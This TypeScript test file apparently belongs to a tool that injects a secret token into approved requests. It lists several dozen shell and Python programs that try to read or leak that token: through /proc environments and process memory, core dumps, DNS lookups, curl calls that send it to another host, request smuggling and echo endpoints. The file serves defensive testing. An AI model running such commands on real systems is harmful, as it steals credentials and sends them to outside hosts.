/** `@` is the bound host, `%` another one that was granted, `$T` the variable; each runs in a shell of its own. */
const echo = (path: string, options = "") =>
  [`echo by ${path}`, `curl -sS -i ${options} -H "Authorization: Bearer $T" @/${path}`] as const;

const python = (code: string) => `python3 -c '${code}'`;

const RAW = (lines: string) =>
  `printf '${lines}' | timeout 5 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect "$BOUND" -servername api.test 2>/dev/null`;

/** Programs that try to see a secret or to send it to somebody else. */
export const PROGRAMS: readonly (readonly [name: string, command: string])[] = [
  ["print", "echo $T"],
  ["write to a file", 'echo $T > "$PWD/stolen"; cat stolen'],
  ["write to a temporary file", "echo $T > /tmp/x; cat /tmp/x"],
  ["encode", "printf %s $T | base64 -w0"],
  ["encode in hexadecimal", "printf %s $T | od -An -tx1"],
  ["turn round", "printf %s $T | rev"],
  ["split", "printf %s $T | sed 's/./& /g'"],
  ["child process", "sh -c 'sh -c \"env\"' | grep T="],
  ["environment of a process", "cat /proc/self/environ | tr '\\0' '\\n' | grep '^T='"],
  ["environments of all processes", "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep '^T='"],
  [
    "command lines of all processes",
    'sh -c "sleep 0.01" "$T" & cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" " "; echo $T',
  ],
  [
    "memory of all processes",
    python(`import glob, re, os
for maps in glob.glob("/proc/[0-9]*/maps"):
    try:
        for line in open(maps):
            part = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if not part: continue
            start, end = (int(x, 16) for x in part.groups())
            with open(os.path.dirname(maps) + "/mem", "rb", 0) as memory:
                memory.seek(start)
                for found in re.findall(rb"s3cr[3]t-Val[u]e[ -~]*", memory.read(min(end - start, 1 << 24))): print(found.decode())
    except (OSError, ValueError, OverflowError): pass
print(os.environ["T"])`),
  ],
  [
    "core dump",
    "ulimit -c unlimited; sh -c 'kill -SEGV $$'; cat core* 2>/dev/null | strings | grep T=; echo $T",
  ],
  ["error message", python('import os; raise ValueError(os.environ["T"])')],
  ["error of a client", 'curl -sS -v "@/$T" 2>&1'],
  [
    "trusted certificates",
    'cat "$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS" 2>/dev/null | grep -c PRIVATE; ls /tmp/dejima* 2>/dev/null; echo $T',
  ],
  ["name of a host", "curl -sS https://$T.other.test/"],
  [
    "name that is looked up",
    python('import os, socket; print(socket.gethostbyname(os.environ["T"] + ".other.test"))'),
  ],
  ["header of another host", 'curl -sS -H "Authorization: Bearer $T" %/header'],
  ["body of another host", "curl -sS -d token=$T %/body"],
  ["address of another host", "curl -sS %/address/$T"],
  ["login of another host", 'curl -sS -u "ann:$T" %/login'],
  ["the bound host without TLS", 'curl -sS -H "Authorization: Bearer $T" http://api.test:$PLAIN/plain'],
  ["another host inside the tunnel", 'curl -sS -H "Host: other.test" -H "Authorization: Bearer $T" @/body'],
  [
    "the bound host inside another tunnel",
    'curl -sS -H "Host: api.test" -H "Authorization: Bearer $T" %/fronted',
  ],
  [
    "another address for the same host",
    'curl -sS --connect-to "$BOUND:$OTHER" -k -H "Authorization: Bearer $T" @/connected',
  ],
  ["a redirect", 'curl -sS -L -H "Authorization: Bearer $T" @/redirect'],
  [
    "a redirect that takes the header along",
    'curl -sS --location-trusted -H "Authorization: Bearer $T" @/redirect-along',
  ],
  ["body of the bound host", "curl -sS -d token=$T @/body -H 'Authorization: Bearer none'; echo $T"],
  ["TRACE", 'curl -sS -X TRACE -H "Authorization: Bearer $T" @/body'],
  [
    "parts of an answer",
    'for at in 0-7 8-15 16-23 24-60; do curl -sS -r $at -H "Authorization: Bearer $T" @/range; done',
  ],
  [
    "two requests in one",
    RAW(
      "GET /body HTTP/1.1\\r\\nHost: '$BOUND'\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /body HTTP/1.1\\r\\nHost: '$BOUND'\\r\\nAuthorization: Bearer '$T'\\r\\nConnection: close\\r\\n\\r\\n",
    ),
  ],
  ["an old protocol", 'curl -sS -0 --no-alpn -H "Authorization: Bearer $T" @/body'],
  [
    "a request without a body length",
    RAW(
      "DELETE /body HTTP/1.1\\r\\nHost: '$BOUND'\\r\\nAuthorization: Bearer '$T'\\r\\nConnection: close\\r\\n\\r\\n",
    ),
  ],
  ["a head alone", 'curl -sS -I -H "Authorization: Bearer $T" @/header'],
  echo("body"),
  echo("json"),
  echo("upper"),
  echo("base64"),
  echo("base64-inside"),
  echo("hex"),
  echo("percent"),
  echo("utf16"),
  echo("gzip", "--compressed"),
  echo("brotli", "--compressed"),
  echo("deflate", "--compressed"),
  echo("gzip-twice", "--compressed"),
  ["echo by gzip-unsaid", 'curl -sS -H "Authorization: Bearer $T" @/gzip-unsaid | gunzip'],
  echo("header"),
  echo("header-name"),
  echo("cookie", "-c -"),
  echo("status"),
  echo("error"),
  echo("early"),
  echo("trailer"),
  echo("chunks", "-N"),
  echo("large"),
  echo("large-length"),
  echo("half"),
];
